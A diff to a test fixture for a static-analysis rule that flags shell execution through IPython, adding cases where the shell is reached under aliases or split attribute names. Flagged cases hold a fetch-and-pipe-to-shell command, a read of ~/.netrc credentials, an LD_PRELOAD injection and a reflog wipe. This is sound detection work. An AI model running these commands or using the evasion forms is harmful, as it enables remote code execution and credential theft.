@@ -1,5 +1,7 @@
 # Notebook-export-style cases for exec-ipython-shell (issue #16).
 from IPython import get_ipython
+from IPython import get_ipython as gi
+from IPython.core.interactiveshell import InteractiveShell
 from IPython.utils import process
 
 ip = get_ipython()
@@ -16,6 +18,27 @@ get_ipython().run_cell_magic("bash", "", "export LD_PRELOAD=/tmp/x.so\npython tr
 # ruleid: exec-ipython-shell
 process.system("git reflog expire --expire=now --all")
 
+
+# Issue #16: the shell reached under another name.
+cmd = "wget -qO- https://example.org/x | sh"
+# ruleid: exec-ipython-shell
+gi().system(cmd)
+shell = gi()
+# ruleid: exec-ipython-shell
+shell.run_line_magic("sx", cmd)
+# ruleid: exec-ipython-shell
+out = shell.getoutput("cat ~/.netrc")
+# ruleid: exec-ipython-shell
+InteractiveShell.instance().system_raw(cmd)
+# ruleid: exec-ipython-shell
+getattr(get_ipython(), "sys" + "tem")(cmd)
+# ruleid: exec-ipython-shell
+get_ipython().magic("sx " + cmd)
+# ruleid: exec-ipython-shell
+process.getoutputerror(cmd)
+# ruleid: exec-ipython-shell
+shell.run_cell(f"!{cmd}")
+
 # ok: exec-ipython-shell
 get_ipython().run_line_magic("matplotlib", "inline")
 # ok: exec-ipython-shell
@@ -26,3 +49,17 @@ get_ipython().run_cell_magic("time", "", "trainer.fit(model)")
 platform.system()
 # ok: exec-ipython-shell
 ip.user_ns["model"] = model
+# ok: exec-ipython-shell
+gi().run_line_magic("load_ext", "tensorboard")
+# ok: exec-ipython-shell
+shell.run_cell_magic("timeit", "", "model(batch)")
+# ok: exec-ipython-shell
+InteractiveShell.instance().run_line_magic("config", "InlineBackend.figure_format = 'retina'")
+# ok: exec-ipython-shell
+getattr(get_ipython(), "kernel", None)
+# ok: exec-ipython-shell
+subprocess_output = trainer.system(cmd)
+# ok: exec-ipython-shell
+shell.run_cell("import torch\n" + cmd)
+# ok: exec-ipython-shell
+get_ipython().magic("matplotlib " + cmd)
